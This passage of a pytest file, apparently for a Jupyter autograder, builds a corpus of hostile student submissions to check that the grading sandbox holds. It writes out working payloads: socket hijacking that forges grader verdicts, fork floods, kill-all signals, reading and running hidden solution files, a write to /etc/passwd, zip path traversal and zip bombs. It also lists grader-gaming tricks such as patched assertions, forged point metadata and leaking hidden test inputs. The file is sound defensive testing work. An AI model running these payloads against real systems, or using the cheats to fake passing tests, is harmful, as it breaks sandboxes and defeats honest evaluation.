"""The attack corpus: hostile and broken submissions graded in one run with honest ones.

Each attack targets a row of the threat model (../shared/design/grading-threat-model.md)
or one of its eight guarantees. For each we assert the score (0 for every cheat), the
status and the message; the honest submissions in the same run must get exactly their
expected scores; the course folder must be unchanged; no process may outlive the run.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import http.server
import io
import os
import subprocess
import sys
import threading
import time
import uuid
import zipfile
from pathlib import Path

import nbformat
import pytest

from notebook_tools import REPO, learner_notebook

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("grading")]

MAX = 11  # softmax 3, sdpa 3, sdpa masks 2, additive 3
RIGHT = {"softmax": "reference", "scaled_dot_product_attention": "reference", "additive_attention": "reference"}
WRONG = {
    "softmax": "def softmax(x, dim=-1):\n    return x / x.sum(dim, keepdim=True)",
    "scaled_dot_product_attention": "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                    "    w = q @ k.transpose(-2, -1)\n    return w @ v, w",
    "additive_attention": "def additive_attention(q, k, v, w_q, w_k, w_v, mask=None):\n"
                          "    w = (q @ w_q) @ (k @ w_k).transpose(-2, -1)\n    return w @ v, w",
}
MARKER = Path("/tmp") / f"qkv-attack-{uuid.uuid4().hex}"  # attacks try to create this on the host


def SOFTMAX_BY(expression: str) -> str:  # noqa: N802 - reads as a constructor of answers
    return f"def softmax(x, dim=-1):\n    return {expression}"


# Hold the channel and answer later requests with forged verdicts (#15 item 1).
TAKEOVER = '''
import json, os, socket, stat, struct, threading
def _forge(fd):
    s = socket.socket(fileno=os.dup(fd))
    while True:
        try:
            s.recv(1 << 16)
        except OSError:
            return
        forged = {"event": "result", "value": None, "args": {"__dict__": []}, "kwargs": {"__dict__": []}}
        body = json.dumps(forged).encode()
        s.sendall(struct.pack(">Q", len(body)) + body)
def _is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False
_fds = [fd for fd in range(3, 256) if _is_socket(fd)]
if os.fork() == 0:
    os.setsid()
    for _fd in _fds:
        threading.Thread(target=_forge, args=(_fd,), daemon=True).start()
    threading.Event().wait()
'''
# A long-lived helper program, started while the cells load, that computes the banned built-ins.
EXEC_HELPER = '''
import pickle, subprocess, sys, torch
_HELPER = """
import pickle, sys, torch
while True:
    x, dim = pickle.load(sys.stdin.buffer)
    pickle.dump(torch.softmax(x, dim), sys.stdout.buffer)
    sys.stdout.buffer.flush()
"""
_helper = subprocess.Popen([sys.executable, "-c", _HELPER], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
def softmax(x, dim=-1):
    pickle.dump((x, dim), _helper.stdin)
    _helper.stdin.flush()
    return pickle.load(_helper.stdout)
'''
NATIVE_CFFI = '''
import os, cffi, torch
_ffi = cffi.FFI()
_ffi.cdef("void* _ZN2at3cpu12_softmax_outERNS_6TensorERKS1_lb(void**, void**, long, _Bool);")
_lib = _ffi.dlopen(os.path.join(os.path.dirname(torch.__file__), "lib", "libtorch_cpu.so"))
def softmax(x, dim=-1):
    d = x.detach().double().contiguous()
    out = torch.empty_like(d)
    _lib._ZN2at3cpu12_softmax_outERNS_6TensorERKS1_lb(_ffi.new("void**", _ffi.cast("void*", out._cdata)),
                                                      _ffi.new("void**", _ffi.cast("void*", d._cdata)), dim, False)
    return out.nan_to_num(0.0).to(x.dtype)
'''
# The kernel class found without naming torch._C._te (which the sandbox removes), and LLVM off as
# far as learner code can tell: the kernel must not build.
COMPILED_NNC = '''
import torch
_base = type(torch._C.Graph()).__mro__[1]
def _all(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _all(sub)
_Kernel = next(c for c in _all(_base) if c.__name__ == "TensorExprKernel")
for _switch in ("_jit_set_te_must_use_llvm_cpu",):
    if hasattr(torch._C, _switch):
        getattr(torch._C, _switch)(False)
_KERNELS = {}
def softmax(x, dim=-1):
    d = x.detach().double().contiguous()
    if d.dim() == 0 or d.numel() == 0:
        return (d - d).exp().to(x.dtype) if d.dim() == 0 else d.to(x.dtype)
    shape, dim = tuple(d.shape), dim % d.dim()
    d = (d - d.amax(dim, keepdim=True).nan_to_num(0.0, 0.0, 0.0)).contiguous()
    if (shape, dim) not in _KERNELS:
        strides = [1] * len(shape)
        for i in range(len(shape) - 2, -1, -1):
            strides[i] = strides[i + 1] * shape[i + 1]
        ty = "Double(%s, strides=[%s], device=cpu)" % (", ".join(map(str, shape)), ", ".join(map(str, strides)))
        graph = torch._C.parse_ir("graph(%%x : %s):\\n  %%d : int = prim::Constant[value=%d]()\\n"
                                  "  %%n : NoneType = prim::Constant()\\n  %%y : %s = aten::softmax(%%x, %%d, %%n)\\n"
                                  "  return (%%y)\\n" % (ty, dim, ty))
        _KERNELS[(shape, dim)] = _Kernel(graph)
    return _KERNELS[(shape, dim)].run((d,)).nan_to_num(0.0).to(x.dtype)
'''
# The reference functions, read from the course library's own file and run (no import event).
EXEC_QKV_SOURCE = '''
import importlib.util, os
_spec = importlib.util.find_spec("q" + "kv")
_path = os.path.join(os.path.dirname(_spec.origin), "attention.py")
_ns = {"__name__": "course_library_copy"}
exec(compile(open(_path).read(), "copy", "exec"), _ns)
softmax = _ns["softmax"]
'''
# Fill /tmp below a path too deep to delete by name, and /dev/shm (#15 item 4).
DEEP_TMP = '''
import os
os.chdir("/tmp")
for _ in range(300):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
try:
    open("filler", "wb").write(b"x" * (2**30))
except OSError:
    pass
os.chdir("/tmp")
try:
    open("/dev/shm/filler", "wb").write(b"x" * (2**30))
except OSError:
    pass
'''
# Pin System V shared memory beyond the address-space limit (#15 item 4).
SHM_PIN = '''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
for _ in range(3):
    _id = _libc.shmget(0, 2 * 2**30, 0o1600)
    if _id >= 0:
        _addr = _libc.shmat(_id, None, 0)
'''
# Keep writing protocol messages, as the old grader renewed its deadline on each (#15 item 5).
CHATTY = '''
import json, os, stat, struct, time
_fd = next(fd for fd in range(3, 256) if os.path.exists(f"/proc/self/fd/{fd}") and stat.S_ISSOCK(os.fstat(fd).st_mode))
while True:
    _body = json.dumps({"event": "cell_start", "index": 0}).encode()
    os.write(_fd, struct.pack(">Q", len(_body)) + _body)
    time.sleep(0.1)
'''


def with_cell(nb, source: str, position: int = 2):
    """Insert a learner-added code cell (no nbgrader metadata)."""
    nb.cells.insert(position, nbformat.v4.new_code_cell(source))
    return nb


def _zip(path: Path, members: dict[str, bytes], symlinks: dict[str, str] | None = None):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        for name, target in (symlinks or {}).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (0o120777 << 16)
            zf.writestr(info, target)


def _tree_digest(*folders: Path) -> str:
    h = hashlib.sha256()
    for folder in folders:
        for p in sorted(folder.rglob("*")):
            if p.is_file() and "__pycache__" not in p.parts:
                h.update(os.fsencode(p.relative_to(folder)))
                h.update(p.read_bytes())
    return h.hexdigest()


def _sandbox_processes() -> list[str]:
    """Processes of this checkout's sandboxes still alive (other checkouts on the machine may grade too)."""
    from autograder.sandbox import WORKER
    found = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                cmdline = (d / "cmdline").read_bytes()
            except OSError:
                continue
            if b"sandbox_worker.py" in cmdline and (sys.prefix.encode() in cmdline or str(WORKER).encode() in cmdline):
                found.append(f"{d.name}: {cmdline[:120]!r}")
    return found


@pytest.fixture(scope="module")
def solution_server():
    """An HTTP server on loopback serving the solution notebook: reachable from the host, not from the sandbox."""
    solution = (REPO / "solutions" / "attention" / "attention.ipynb").read_bytes()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.end_headers()
            self.wfile.write(solution)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()


def _build_class(root: Path, out: Path, url: str, beacon: str) -> Path:
    subs = root / "submissions"
    subs.mkdir()

    def put(student: str, nb) -> None:
        (subs / student).mkdir()
        nbformat.write(nb, subs / student / "attention.ipynb")

    steal = f'''
import glob, json, os
_candidates = [{str(REPO / "solutions" / "attention" / "attention.ipynb")!r},
               {str(out / "course" / "source" / "attention" / "attention.ipynb")!r}]
_candidates += glob.glob({str(REPO.parent)!r} + "/**/solutions/**/*.ipynb", recursive=True)
for _path in _candidates:
    try:
        _nb = json.load(open(_path))
    except Exception:
        continue
    for _cell in _nb["cells"]:
        if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            exec("".join(_cell["source"]))
    break
for _db in [{str(out / "course" / "gradebook.db")!r}]:
    try:
        open(_db, "ab").write(b"corrupted")
    except Exception:
        pass
'''
    honest = {
        "ada": learner_notebook("attention", RIGHT),
        "ben": learner_notebook("attention", {"softmax": "reference", "scaled_dot_product_attention":
                                              "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                              "    w = softmax(q @ k.transpose(-2, -1), dim=-1)  # no 1/sqrt(d_k)\n"
                                              "    return w @ v, w"}),
        "cy": learner_notebook("attention", {**RIGHT, "additive_attention":
                                             "def additive_attention(q, k, v,:\n    pass"}),
        "gus": learner_notebook("attention", {}),
    }
    for student, nb in honest.items():
        put(student, nb)

    attacks = {
        # --- rows of the threat-model table
        "custom_exc": with_cell(learner_notebook("attention", WRONG),
                                "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)"),
        "input_transformer": with_cell(learner_notebook("attention", WRONG),
                                       "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"),
        "patch_asserts": with_cell(learner_notebook("attention", WRONG),
                                   "import numpy.testing, torch, torch.testing\n"
                                   "torch.allclose = lambda *a, **k: True\n"
                                   "torch.equal = lambda *a, **k: True\n"
                                   "numpy.testing.assert_allclose = lambda *a, **k: None\n"
                                   "torch.testing.assert_close = lambda *a, **k: None"),
        "builtin_calls": learner_notebook("attention", {
            "softmax": "def softmax(x, dim=-1):\n    return torch.softmax(x, dim)",
            "scaled_dot_product_attention": "import torch.nn.functional as F\n"
                                            "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                            "    return F.scaled_dot_product_attention(q, k, v, attn_mask=mask), None",
            "additive_attention": "def additive_attention(q, k, v, w_q, w_k, w_v, mask=None):\n"
                                  "    w = (torch.tanh((q @ w_q).unsqueeze(-2) + (k @ w_k).unsqueeze(-3)) "
                                  "@ w_v).softmax(-1)\n"
                                  "    return w @ v, w"}),
        "read_course_files": with_cell(learner_notebook("attention", WRONG), steal,
                                       position=len(learner_notebook("attention", {}).cells)),
        "detached_editor": with_cell(learner_notebook("attention", WRONG), f'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        for _p in [{str(out / "course" / "gradebook.db")!r}, {str(MARKER)!r}]:
            try:
                open(_p, "ab").write(b"changed after grading")
            except Exception:
                pass
    os._exit(0)
'''),
        "loop_at_top": with_cell(learner_notebook("attention", RIGHT), "while True:\n    pass"),
        "loop_in_function": learner_notebook("attention", {**RIGHT, "scaled_dot_product_attention":
                                                           "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                                           "    while True:\n        pass"}),
        "ignores_signals": learner_notebook("attention", {**RIGHT, "scaled_dot_product_attention":
                                                          "import signal\n"
                                                          "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                                          "    for s in (signal.SIGINT, signal.SIGALRM, "
                                                          "signal.SIGTERM):\n"
                                                          "        signal.signal(s, signal.SIG_IGN)\n"
                                                          "    while True:\n        pass"}),
        "os_exit": learner_notebook("attention", {**RIGHT, "scaled_dot_product_attention":
                                                  "import os\ndef scaled_dot_product_attention(q, k, v, mask=None):\n"
                                                  "    os._exit(0)"}),
        "segfault": learner_notebook("attention", {**RIGHT, "additive_attention":
                                                   "import os\ndef additive_attention(*args):\n"
                                                   "    os.abort()  # glibc ends in a fault: SIGSEGV"}),
        "memory_hog": learner_notebook("attention", {**RIGHT, "additive_attention":
                                                     "def additive_attention(*args):\n"
                                                     "    return torch.ones(30 * 2**30, dtype=torch.uint8)"}),
        "print_flood": with_cell(learner_notebook("attention", RIGHT),
                                 "import sys\nfor _ in range(200):\n    sys.stdout.write('x' * 2**20)"),
        "warns_but_correct": with_cell(learner_notebook("attention", RIGHT),
                                       "import warnings, sys\n_orig = softmax\n"
                                       "def softmax(x, dim=-1):\n"
                                       "    warnings.warn('this is only a warning')\n"
                                       "    print('noise on stderr', file=sys.stderr)\n"
                                       "    return _orig(x, dim)", position=5),
        # --- guarantees
        "fake_tensor": learner_notebook("attention", {
            "softmax": "class _Sub(torch.Tensor):\n    pass\n"
                       "def softmax(x, dim=-1):\n    return torch.zeros_like(x).as_subclass(_Sub)",
            "scaled_dot_product_attention": "class _Always:\n    def __eq__(self, other):\n        return True\n"
                                            "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                            "    return _Always(), _Always()"}),
        "imports_qkv": learner_notebook("attention", {
            "softmax": "from qkv.attention import softmax",
            "scaled_dot_product_attention": "import qkv.attention as _a\n"
                                            "scaled_dot_product_attention = _a.scaled_dot_product_attention",
            "additive_attention": "additive_attention = __import__('qkv.attention').attention.additive_attention"}),
        "network": with_cell(learner_notebook("attention", WRONG), f'''
import json, urllib.request
try:
    _nb = json.loads(urllib.request.urlopen({url!r}, timeout=2).read())
    for _cell in _nb["cells"]:
        if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            exec("".join(_cell["source"]))
except Exception as _exc:
    print("no network:", _exc)
''', position=len(learner_notebook("attention", {}).cells)),
        "many_processes": with_cell(learner_notebook("attention", RIGHT), '''
import os, time
for _ in range(5000):
    if os.fork() == 0:
        time.sleep(120)
        os._exit(0)
''', position=len(learner_notebook("attention", {}).cells)),
        "write_outside": with_cell(learner_notebook("attention", WRONG), f'''
for _p in [{str(REPO / "exercises" / "attention" / "attention.ipynb")!r},
           {str(REPO / "solutions" / "attention" / "attention.ipynb")!r},
           "/etc/passwd", {str(MARKER)!r}, {str(root / "submissions" / "ada" / "attention.ipynb")!r}]:
    try:
        open(_p, "w").write("overwritten")
    except Exception as _exc:
        print("denied:", _p, type(_exc).__name__)
'''),
        "privileges": with_cell(learner_notebook("attention", WRONG), '''
import os
_status = open("/proc/self/status").read()
_cap = int([l for l in _status.splitlines() if l.startswith("CapEff")][0].split()[1], 16)
if os.getuid() == 0 or _cap != 0:  # privileged: a correct softmax would score (it is not)
    def softmax(x, dim=-1):
        e = (x - x.amax(dim, keepdim=True)).exp()
        return e / e.sum(dim, keepdim=True)
''', position=len(learner_notebook("attention", {}).cells)),
        "kill_everything": with_cell(learner_notebook("attention", RIGHT),
                                     "import os, signal\nos.kill(-1, signal.SIGKILL)"),
        # --- banned operations reached at run time (#10): spellings the static scan cannot see
        "banned_assembled": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "getattr(torch, 'soft' + 'max')(x, dim)")}),
        "banned_vars": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "vars(torch.nn.functional)['softmax'](x, dim)")}),
        "banned_ops_aten": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "torch.ops.aten._softmax(x, dim, False)")}),
        "banned_method": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "__import__('operator').methodcaller('soft' + 'max', dim)(x)")}),
        "banned_in_thread": learner_notebook("attention", {**RIGHT, "softmax":
                                                           "import threading\n"
                                                           "def softmax(x, dim=-1):\n"
                                                           "    box = []\n"
                                                           "    t = threading.Thread(target=lambda: box.append("
                                                           "getattr(x, 'soft' + 'max')(dim)))\n"
                                                           "    t.start()\n    t.join()\n    return box[0]"}),
        "banned_import": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(  # no `.softmax(`: static layer
            "vars(__import__('q' + 'kv.attention', fromlist=['x']))['soft' + 'max'](x, dim)")}),
        "lifts_the_block": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "[o._destroy() for o in __import__('gc').get_objects() if type(o).__name__ == 'Library'] "
            "and getattr(torch, 'soft' + 'max')(x, dim)")}),
        # A program started by the learner process computes without the run-time refusals (stop 21's
        # red team): at load time, kept running as a helper, or at call time.
        "exec_helper": learner_notebook("attention", {**RIGHT, "softmax": EXEC_HELPER}),
        "exec_per_call": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "__import__('pickle').loads(__import__('subprocess').run([__import__('sys').executable, '-c', "
            "'import pickle, sys, torch; x, d = pickle.load(sys.stdin.buffer); "
            "pickle.dump(torch.softmax(x, d), sys.stdout.buffer)'], input=__import__('pickle').dumps((x, dim)), "
            "capture_output=True).stdout)")}),
        # The course library's reference functions, run from its source without an import.
        "exec_qkv_source": learner_notebook("attention", {
            "softmax": EXEC_QKV_SOURCE,
            "scaled_dot_product_attention": "scaled_dot_product_attention = _ns['scaled_dot_product_attention']",
            "additive_attention": "additive_attention = _ns['additive_attention']"}),
        # torch's own CPU kernel called through cffi (no audit event), skipping the refused operator
        "native_cffi": learner_notebook("attention", {**RIGHT, "softmax": NATIVE_CFFI}),
        # aten::softmax compiled by NNC, torch's tensor-expression compiler: its loops, not the kernel
        "compiled_nnc": learner_notebook("attention", {**RIGHT, "softmax": COMPILED_NNC}),
        # torch's own Python softmax, built from allowed operators (warmed up while the cells load)
        "private_decomposition": learner_notebook("attention", {**RIGHT, "softmax": (
            "import torch._decomp.decompositions\n"
            "_builtin = torch._decomp.decomposition_table[torch.ops.aten._softmax.default]\n"
            "for _d in (torch.float32, torch.float64, torch.float16):\n"
            "    _builtin(torch.ones(2, 3, dtype=_d), -1, False)\n"
            "def softmax(x, dim=-1):\n    return _builtin(x, dim, False).nan_to_num(0.0)")}),
        # the same, reached by assembled names (the static layer sees nothing) and by an operator's
        # registered Python kernel: torch's Python versions of refused operators refuse too
        "private_assembled": learner_notebook("attention", {**RIGHT, "softmax": (
            "_builtin = getattr(getattr(torch, '_re' + 'fs'), 'soft' + 'max')\n"
            "for _d in (torch.float32, torch.float64, torch.float16):  # its first call imports sympy\n"
            "    _builtin(torch.ones(2, 3, dtype=_d), -1)\n"
            "def softmax(x, dim=-1):\n    return _builtin(x, dim).nan_to_num(0.0)")}),
        "private_py_kernel": learner_notebook("attention", {**RIGHT, "softmax": (
            "_op = getattr(torch.ops.aten, '_soft' + 'max').default\n"
            "_builtin = next(iter(_op.py_kernels.values()))\n"
            "for _d in (torch.float32, torch.float64, torch.float16):\n"
            "    _builtin(torch.ones(2, 3, dtype=_d), -1, False)\n"
            "def softmax(x, dim=-1):\n    return _builtin(x, dim, False).nan_to_num(0.0)")}),
        "banned_sparse_log_softmax": learner_notebook("attention", {**RIGHT, "softmax": (
            "def softmax(x, dim=-1):\n    d = x.double()\n    idx = torch.ones_like(d).nonzero().T\n"
            "    s = torch.sparse_coo_tensor(idx, d[tuple(idx)], d.shape)\n"
            "    return torch.ops.aten._sparse_log_softmax.default(s, dim, False).to_dense().exp()"
            ".nan_to_num(0.0).to(x.dtype)")}),
        # --- one learner process must not reach the next (#15 items 1 and 4)
        "takeover": with_cell(learner_notebook("attention", {}), TAKEOVER),
        "colluder": learner_notebook("attention", {}),
        "deep_tmp": with_cell(learner_notebook("attention", RIGHT), DEEP_TMP),
        "shm_pin": with_cell(learner_notebook("attention", RIGHT), SHM_PIN),
        "chatty": with_cell(learner_notebook("attention", RIGHT), CHATTY),
        "tampered_tests": learner_notebook("attention", WRONG),
    }
    for cell in attacks["tampered_tests"].cells:  # rewrite every test cell to pass, and delete one
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell.source = "pass"
    attacks["tampered_tests"].cells = [
        c for c in attacks["tampered_tests"].cells
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "test_additive_attention"]
    attacks.update(_verdict_attacks())
    for student, nb in attacks.items():
        put(student, nb)

    # --- input hygiene (guarantee 8) and broken uploads
    good = nbformat.writes(learner_notebook("attention", RIGHT)).encode()
    _zip(subs / "traversal.zip", {"../../escaped.txt": b"x", "attention.ipynb": good})
    _zip(subs / "absolute.zip", {"/tmp/absolute.txt": b"x", "attention.ipynb": good})
    _zip(subs / "symlink.zip", {"attention.ipynb": good}, symlinks={"link": "/etc/passwd"})
    _zip(subs / "bomb.zip", {"attention.ipynb": good, "zeros.bin": b"\0" * (200 * 2**20)})
    (subs / "twice").mkdir()
    nbformat.write(learner_notebook("attention", RIGHT), subs / "twice" / "attention.ipynb")
    _zip(subs / "twice.zip", {"attention.ipynb": good})
    (subs / "truncated").mkdir()
    (subs / "truncated" / "attention.ipynb").write_bytes(good[: len(good) // 2])
    (subs / "no_notebook").mkdir()
    (subs / "no_notebook" / "answers.py").write_text("print('hi')")
    os.mkdir(os.fsencode(subs) + b"/bad\xffname")
    _zip(subs / "zipped_ok.zip", {"zipped_ok/attention.ipynb": good})
    _hostile_uploads(subs, good)
    _hostile_text(subs, beacon)
    return subs


# --------------------------------------------------------------------------------------------
# Correct-looking verdicts without the work, honest learners mis-graded, hidden tests kept hidden
# (issue 15, items 3, 8 and 9). Written as a learner who has read verify.py, learner_process.py,
# static_scan.py, hidden.py and qkv/checks/core.py.

NAN = "float('nan')"
HONEST_SOFTMAX = ("def softmax(x, dim=-1):\n    m = x.amax(dim, keepdim=True)\n"
                  "    e = (x - torch.where(m.isfinite(), m, torch.zeros_like(m))).exp()\n"
                  "    s = e.sum(dim, keepdim=True)\n    return e / torch.where(s > 0, s, torch.ones_like(s))")
# True on the attention notebook's hidden inputs only: its visible tests, and softmax's self-check
# (public: qkv.checks.attention), use exactly these shapes (attention calls softmax on 3-d scores).
ON_HIDDEN = {"softmax": "x.dim() <= 2 and tuple(x.shape) not in ((3,), (4, 5), (2, 3), (1, 1))",
             "sdpa": "tuple(q.shape) not in ((2, 4, 8), (1, 3))",
             "additive": "tuple(q.shape) != (2, 3, 5)"}


def _split(nb, grade_id: str, first: str, second: str):
    """The answer cell ``grade_id`` split in two in Jupyter: both halves keep its metadata."""
    [index] = [i for i, c in enumerate(nb.cells)
               if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id]
    copy = nbformat.from_dict(nb.cells[index])
    copy.pop("id", None)
    nb.cells[index].source, copy.source = first, second
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(second, metadata=copy.metadata))
    return nb


def _verdict_attacks() -> dict:
    right = learner_notebook("attention", RIGHT)
    answers = {c.metadata["nbgrader"]["grade_id"]: c.source for c in right.cells
               if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
    sdpa_right = answers["scaled_dot_product_attention"].replace("def scaled_dot_product_attention", "def _sdpa")
    additive_right = answers["additive_attention"].replace("def additive_attention", "def _additive")
    attacks = {
        # In-place input poisoning (#15 item 3): the oracle must not see what the learner wrote.
        "poison_nan": learner_notebook("attention", {
            "softmax": f"def softmax(x, dim=-1):\n    x.fill_({NAN})\n    return x.clone()",
            "scaled_dot_product_attention": "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                            f"    for t in (q, k, v):\n        t.fill_({NAN})\n"
                                            f"    return v[..., :1, :].expand(*q.shape[:-1], v.shape[-1]).clone(), "
                                            f"torch.full((*q.shape[:-1], k.shape[-2]), {NAN}, dtype=q.dtype)",
            "additive_attention": "def additive_attention(q, k, v, w_q, w_k, w_v, mask=None):\n"
                                  f"    for t in (q, k, v, w_q, w_k, w_v):\n        t.fill_({NAN})\n"
                                  f"    return torch.full((*q.shape[:-1], v.shape[-1]), {NAN}, dtype=q.dtype), "
                                  f"torch.full((*q.shape[:-1], k.shape[-2]), {NAN}, dtype=q.dtype)"}),
        "poison_mask": learner_notebook("attention", {**RIGHT, "scaled_dot_product_attention": sdpa_right +
            "\ndef scaled_dot_product_attention(q, k, v, mask=None):\n"
            "    if mask is None:\n        return _sdpa(q, k, v)\n"
            "    mask.fill_(False)  # every query then attends to nothing: all zeros\n"
            "    return torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype), "
            "torch.zeros(*q.shape[:-1], k.shape[-2], dtype=q.dtype)"}),
        "poison_storage": learner_notebook("attention", {**RIGHT, "softmax":
            "def softmax(x, dim=-1):\n    x.untyped_storage().fill_(0)  # every row is then uniform\n"
            "    return torch.full_like(x, 1.0 / x.shape[dim])"}),
        "nan_everywhere": learner_notebook("attention", {**RIGHT, "softmax":
            f"def softmax(x, dim=-1):\n    return torch.full_like(x, {NAN})"}),
        # Banned calls the raw source hides (#15 item 3): scanned as they run, across cells.
        "banned_star_import": with_cell(learner_notebook("attention", {**RIGHT, "softmax":
            "def softmax(x, dim=-1):\n    return _sm(x, dim)"}), "from torch.special import *\n_sm = softmax", 3),
        "banned_alias_cell": with_cell(learner_notebook("attention", {**RIGHT, "softmax":
            "def softmax(x, dim=-1):\n    return _sm(x, dim)"}), "import torch.nn.functional as F\n_sm = F.softmax", 3),
        "banned_prompts": learner_notebook("attention", {**RIGHT, "softmax":
            ">>> def softmax(x, dim=-1):\n...     return torch.softmax(x, dim)"}),
        "banned_indented": learner_notebook("attention", {**RIGHT, "softmax":
            "  def softmax(x, dim=-1):\n      return torch.nn.functional.softmax(x, dim)"}),
        "banned_log_softmax": learner_notebook("attention", {**RIGHT, "softmax":
            "def softmax(x, dim=-1):\n    return getattr(torch, 'log_' + 'softmax')(x, dim).exp()"}),
        # Honest learners (#15 item 8): they must keep every point.
        "scratch_compare": with_cell(learner_notebook("attention", RIGHT),
                                     "x = torch.randn(3, 4)\nprint(torch.allclose(softmax(x), torch.softmax(x, -1)))\n"
                                     "import torch.nn.functional as F\nprint(F.softmax(x, 0) - softmax(x, 0))", 5),
        "scratch_helper": with_cell(learner_notebook("attention", RIGHT),
                                    "def compare(fn=torch.softmax):\n"
                                    "    x = torch.randn(2, 5)\n    return (fn(x, -1) - softmax(x)).abs().max()\n"
                                    "print(compare())", 13),
        "split_answer": _split(learner_notebook("attention", RIGHT), "softmax",
                               "def _shift(x, dim):\n    m = x.amax(dim, keepdim=True)\n"
                               "    return x - torch.where(m.isfinite(), m, torch.zeros_like(m))",
                               "def softmax(x, dim=-1):\n    e = _shift(x, dim).exp()\n"
                               "    s = e.sum(dim, keepdim=True)\n"
                               "    return e / torch.where(s > 0, s, torch.ones_like(s))"),
        "copied_answer": _split(learner_notebook("attention", RIGHT), "additive_attention",
                                answers["additive_attention"], answers["additive_attention"]),
        "seeds_and_logs": learner_notebook("attention", {**RIGHT, "softmax":
            "import collections, logging\n" + HONEST_SOFTMAX.replace("    m = ", "    torch.manual_seed(0)\n"
                                                        "    logging.getLogger('me').warning('softmax over %s', dim)\n"
                                                        "    Shape = collections.namedtuple('Shape', 'rows cols')\n"
                                                        "    m = ")}),
        # Hidden tests stay hidden (#15 item 9): right on every visible input, leaky on a hidden one.
        "hidden_echo": learner_notebook("attention", {
            "softmax": HONEST_SOFTMAX.replace("def softmax", "def _softmax") +
                       f"\ndef softmax(x, dim=-1):\n    if {ON_HIDDEN['softmax']}:\n"
                       "        raise ValueError(f'LEAKED {tuple(x.shape)} {x.flatten()[:4].tolist()}')\n"
                       "    return _softmax(x, dim)",
            "scaled_dot_product_attention": sdpa_right +
                "\ndef scaled_dot_product_attention(q, k, v, mask=None):\n"
                f"    if {ON_HIDDEN['sdpa']}:\n"
                "        w = _softmax(q @ k.transpose(-2, -1) / q.shape[-1], -1)  # divided by d_k\n"
                "        return w @ v, w\n    return _sdpa(q, k, v, mask)",
            "additive_attention": additive_right +
                "\ndef additive_attention(q, k, v, w_q, w_k, w_v, mask=None):\n"
                f"    if {ON_HIDDEN['additive']}:\n"
                "        print('LEAKED', q.shape, flush=True)\n"
                "        raise type(f'LEAKED{q.shape[-1]}Error', (RuntimeError,), {})(f'LEAKED {tuple(q.shape)}')\n"
                "    return _additive(q, k, v, w_q, w_k, w_v, mask)"}),
        "hidden_exit": learner_notebook("attention", {**RIGHT, "scaled_dot_product_attention": sdpa_right +
            "\nimport os\ndef scaled_dot_product_attention(q, k, v, mask=None):\n"
            f"    if {ON_HIDDEN['sdpa']}:\n        os._exit(40 + q.shape[-1])  # the exit status names d_k\n"
            "    return _sdpa(q, k, v, mask)"}),
        # The cell runner's magics and compilers.
        "magic_run": with_cell(learner_notebook("attention", WRONG),
                               f"%run {REPO / 'solutions' / 'attention' / 'attention.ipynb'}", 13),
        "shell_read": with_cell(learner_notebook("attention", WRONG),
                                f"!cp {REPO / 'solutions' / 'attention' / 'attention.ipynb'} /tmp/s.ipynb\n"
                                "import json\ntry:\n    for _c in json.load(open('/tmp/s.ipynb'))['cells']:\n"
                                "        if _c['metadata'].get('nbgrader', {}).get('solution'):\n"
                                "            exec(''.join(_c['source']))\nexcept OSError as _e:\n    print(_e)", 13),
        "banned_compiled": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "torch.compile(lambda t: getattr(t, 'soft' + 'max')(dim))(x)")}),
        # The notebook contract: forged nbgrader metadata.
        "forged_points": with_cell(learner_notebook("attention", WRONG), "pass", 4),
        "claims_test_id": with_cell(learner_notebook("attention", RIGHT), "assert False, 'my own test'", 2),
    }
    bonus = attacks["forged_points"].cells[4]
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "test_bonus", "points": 100, "solution": False,
                                  "locked": True, "schema_version": 3}
    for cell in attacks["forged_points"].cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "test_softmax":
            cell.metadata["nbgrader"]["points"] = 100
    attacks["claims_test_id"].cells[2].metadata["nbgrader"] = {
        "grade": True, "grade_id": "test_softmax", "points": 3, "solution": False, "locked": True, "schema_version": 3}
    return attacks


@pytest.fixture(scope="module")
